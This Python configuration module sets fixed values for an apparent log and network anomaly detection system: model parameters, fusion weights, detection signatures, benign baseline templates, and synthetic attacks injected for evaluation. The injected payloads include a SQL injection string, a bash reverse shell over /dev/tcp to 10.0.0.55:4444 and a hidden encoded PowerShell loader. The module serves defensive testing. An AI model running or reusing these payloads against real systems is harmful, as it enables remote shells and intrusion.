"""Fixed values that decide results; everything else in the package is free to change."""

# --- fixed values: source addresses and layers -------------------------------------------

UNKNOWN_IP = "0.0.0.0"
FLOW_TAG = "L3_L4"
FLOW_EVENT_ID = "1000"
EPOCH_TEXT = "1970-01-01T00:00:00Z"

# layer tag -> name of the model that scores it
MODEL_OF_TAG = {
    "L3_L4": "L3_L4",
    "WEB_APP": "WEB_APP",
    "AUTH_LINUX": "AUTH_LINUX",
    "AUTH_WINDOWS": "AUTH_WINDOWS",
    "HOST_LIN": "HOST_LIN",
    "HOST_WIN": "HOST_WIN",
    "HOST_LINUX": "HOST_LIN",
    "HOST_WINDOWS": "HOST_WIN",
}
MODEL_TAGS = ["L3_L4", "WEB_APP", "AUTH_LINUX", "AUTH_WINDOWS", "HOST_LIN", "HOST_WIN"]

# --- fixed values: text signatures (case-sensitive substrings) -----------------------------

WHITELIST = [
    "user news", "user cyrus", "cupsd shutdown", "session closed", "ALERT exited",
    "jk2_init", "mod_jk",
    "Unrecognized packageExtended", "SQM:", "TrustedInstaller", "Session:",
    "cached package applicability",
]
WINDOWS_SIGNATURES = ["C:\\", ".exe", ".dll", "EventID", "Microsoft"]
LINUX_SIGNATURES = [
    "/var/log", "systemd", "pam_unix", "sshd", "root", "/tmp", "authentication failure",
]
SSH_ATTACK_SIGNATURES = [
    "Failed password", "Invalid user", "POSSIBLE BREAK-IN", "Connection closed by",
    "preauth", "error:",
]
TRUTH_SIGNATURES = [
    "OR '1'='1", "Failed password for root", "/bin/bash -i", "EncodedCommand",
    "EventID: 4625", "0xC000006D",
]
GARBAGE_MARKERS = [
    "---", "===", "Time:", "Active Connections", "Image Name", "Proto", "Status", "Name",
]

# --- fixed values: patterns -------------------------------------------------------------

DOTTED_QUAD = r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}\b"
HYPHEN_RHOST = r"rhost=([0-9]{1,3}(?:-[0-9]{1,3}){3})"
ISO_TIMESTAMP = (
    r"^\d{4}-\d{2}-\d{2}([T ]\d{2}(:\d{2}(:\d{2}(\.\d{3}(\d{3})?)?)?)?)?$"
)
# every blank of Unicode, spelled out so that Java, RE2 and Python agree
BLANKS = (
    r"\t\n\x0B\f\r \x1C-\x1F\x85\x{A0}\x{1680}\x{2000}-\x{200A}"
    r"\x{2028}\x{2029}\x{202F}\x{205F}\x{3000}"
)

# --- fixed values: fusion ------------------------------------------------------------------

LAYER_WEIGHTS = {
    "L3_L4": 1.0,
    "WEB_APP": 1.5,
    "AUTH_LINUX": 1.5,
    "AUTH_WINDOWS": 1.5,
    "HOST_LIN": 2.5,
    "HOST_WIN": 2.5,
}
DEFAULT_WEIGHT = 1.0
WEIGHT_SCALE = 3.0
CORRELATION_BONUS = 0.3
REPEAT_LIMIT = 5          # more earlier hits than this on one layer earns the bonus
ALERT_THRESHOLD = 0.60
PREVIEW_CHARS = 50
CORRELATION_SECONDS = 60  # the documented window; unlimited history is the default

EVIDENCE_DEFAULT = "Structural Anomaly"
EVIDENCE_NO_FLOW_FEATURE = "High-Entropy Volumetric Flow Detected"
EVIDENCE_NO_EXPLAINER = "Structural Anomaly (Explainer Not Found)"
EVIDENCE_EXPLAINER_ERROR = "Structural Anomaly (SHAP Error: %s)"
EVIDENCE_TEXT_TIMEOUT = "Structural Anomaly (XAI Timeout)"

# --- fixed values: models ------------------------------------------------------------------

FLOW_FEATURES = ["dst_pt", "b_in", "b_out"]
FOREST_TREES = 100
FOREST_SUBSAMPLE = 256
FOREST_CONTAMINATION = 0.007
FOREST_SEED = 42
SHAP_CUT = -0.5
VOCABULARY_SIZE = 3000
LIME_SAMPLES = 1000
LIME_FEATURES = 5

# layer -> (analyzer, shortest n-gram, longest n-gram, nu)
TEXT_PROFILES = {
    "WEB_APP": ("char", 3, 5, 0.01),
    "AUTH_LINUX": ("char", 3, 6, 0.001),
    "AUTH_WINDOWS": ("char", 3, 6, 0.05),
    "HOST_LIN": ("word", 1, 3, 0.01),
    "HOST_WIN": ("char", 3, 6, 0.01),
}

# --- fixed values: live snapshots ------------------------------------------------------------

SNAPSHOT_COLUMNS = {
    "NETWORK": ["protocol", "local_address", "foreign_address", "state", "pid"],
    "OS": ["service_name", "status"],
    "APP": ["image_name", "pid", "session_name", "session_num", "mem_usage", "status"],
}
PUSH_FRAMES = 30
PUSH_SECONDS = 20

# --- fixed values: reports --------------------------------------------------------------------

CRITICAL_SCORE = 0.8
HIGH_SEVERITY = 0.7
TOP_SOURCES = 5
FEED_ROWS = 100

# --- fixed values: evaluation ------------------------------------------------------------------

SAMPLE_LIMIT = 500
INJECTED_PER_DATASET = 25
INJECTED_TS = "2026-04-30T12:00:00Z"

# tested in this order against the dataset name:
# (name part, source address, layer, payload)
INJECTED_ATTACKS = [
    ("Apache", "192.168.1.100", "WEB_APP",
     "GET /login.php?user=admin' OR '1'='1 HTTP/1.1"),
    ("OpenSSH", "10.0.0.55", "AUTH_LINUX",
     "Failed password for root from 10.0.0.55 port 22 ssh2"),
    ("Linux", "10.0.0.55", "HOST_LINUX",
     "user root command /bin/bash -i >& /dev/tcp/10.0.0.55/4444 0>&1"),
    ("Windows", "10.0.0.55", "HOST_WINDOWS",
     "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand "
     "JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtACgAWwBD"
     "AG8AbgB2AGUAcgB0AF0AOgA6AEYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcAKAAiAEgA..."),
    ("LANL", "10.0.0.88", "AUTH_WINDOWS",
     "EventID: 4625, Logon Type: 3, Status: 0xC000006D, Failure Reason: Unknown user name "
     "or bad password, Account Name: Administrator, Workstation Name: WIN-ATTACKER"),
]

# one outlier flow placed at position 5 of a stream
OUTLIER_POSITION = 5
OUTLIER_FLOW = {
    "ts_raw": "2026-04-16T00:38:00Z",
    "src_ip": "10.0.0.99",
    "dst_ip": "192.168.1.5",
    "src_pt": 54321,
    "dst_pt": 4444,
    "proto": "TCP",
    "evt_id": "1000",
    "act": "BENIGN",
    "b_in": 15000000,
    "b_out": 0,
}

# rows of the attack capture that the reconstruction reads: [0, 10) and [1884, 1904)
ATTACK_CAPTURE = "Friday-WorkingHours-Afternoon-DDos"
ATTACK_CAPTURE_RANGES = [(0, 10), (1884, 1904)]
AUTH_LINES = 2000

# dataset name, format, layer; the order is the order of processing
DATASETS = [
    ("Monday-WorkingHours.pcap_ISCX", "flow", "L3_L4"),
    ("Friday-WorkingHours-Afternoon-DDos.pcap_ISCX", "flow", "L3_L4"),
    ("Apache_2k.log_structured", "log", "WEB_APP"),
    ("OpenSSH_2k.log_structured", "log", "AUTH_LINUX"),
    ("LANL_WLS_2k", "lines", "AUTH_WINDOWS"),
    ("Linux_2k.log_structured", "log", "HOST_LINUX"),
    ("Windows_2k.log_structured", "log", "HOST_WINDOWS"),
]

# --- fixed values: benign baseline templates ------------------------------------------------------

WEB_TEMPLATES = [
    "GET /index.html HTTP/1.1 200",
    "GET /images/logo.png HTTP/1.1 200",
    "POST /api/login HTTP/1.1 200",
    "GET /css/style.css HTTP/1.1 200",
    "GET /js/app.js HTTP/1.1 200",
    "GET /favicon.ico HTTP/1.1 200",
]
SSH_TEMPLATES = [
    "Accepted publickey for root from 192.168.1.100 port {port} ssh2",
    "pam_unix(sshd:session): session opened for user root by (uid=0)",
    "Received disconnect from 192.168.1.100 port {port}: 11: disconnected by user",
]
LINUX_TEMPLATES = [
    "session opened for user {user} by (uid={uid})",
    "pam_unix(sudo:session): session opened for user root by {user}(uid={uid})",
    "systemd[1]: Started Process Core Dump (PID {pid1}/UID 0).",
    "CRON[{pid2}]: (root) CMD ( /usr/lib/sysstat/sa1 1 1)",
    "systemd[1]: Started Session {session} of user {user}.",
    "sshd[{pid3}]: Accepted publickey for {user} from 192.168.1.50 port {port} ssh2",
]
WINDOWS_TEMPLATES = [
    "An account was successfully logged on. Subject User SID: S-1-5-18. Logon ID: {session}",
    "A new process has been created. Creator Process ID: {pid}. "
    "Process Name: C:\\Windows\\System32\\svchost.exe",
    "A new process has been created. Creator Process ID: {pid}. "
    "Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
    "CommandLine: powershell.exe -NoProfile -Command Exit",
    "The Windows Filtering Platform has permitted a connection. Process ID: {pid}",
]
# accounts that appear in the benign host lines: a setting, name your own here
BASELINE_USERS = ("analyst",)

# layer -> (rounds, templates, {slot: (low, high)} with both ends included, {slot: choices})
BASELINES = {
    "WEB_APP": (100, WEB_TEMPLATES, {}, {}),
    "AUTH_LINUX": (300, SSH_TEMPLATES, {"port": (30000, 60000)}, {}),
    "HOST_LIN": (
        150, LINUX_TEMPLATES,
        {"pid1": (1000, 9999), "pid2": (1000, 9999), "pid3": (1000, 9999),
         "session": (1, 500), "port": (30000, 60000)},
        {"uid": (1000, 1001, 0), "user": BASELINE_USERS},
    ),
    "HOST_WIN": (
        150, WINDOWS_TEMPLATES, {"pid": (100, 8000), "session": (100000, 999999)}, {},
    ),
}
HEX_SLOTS = {"HOST_WIN": ("pid", "session")}
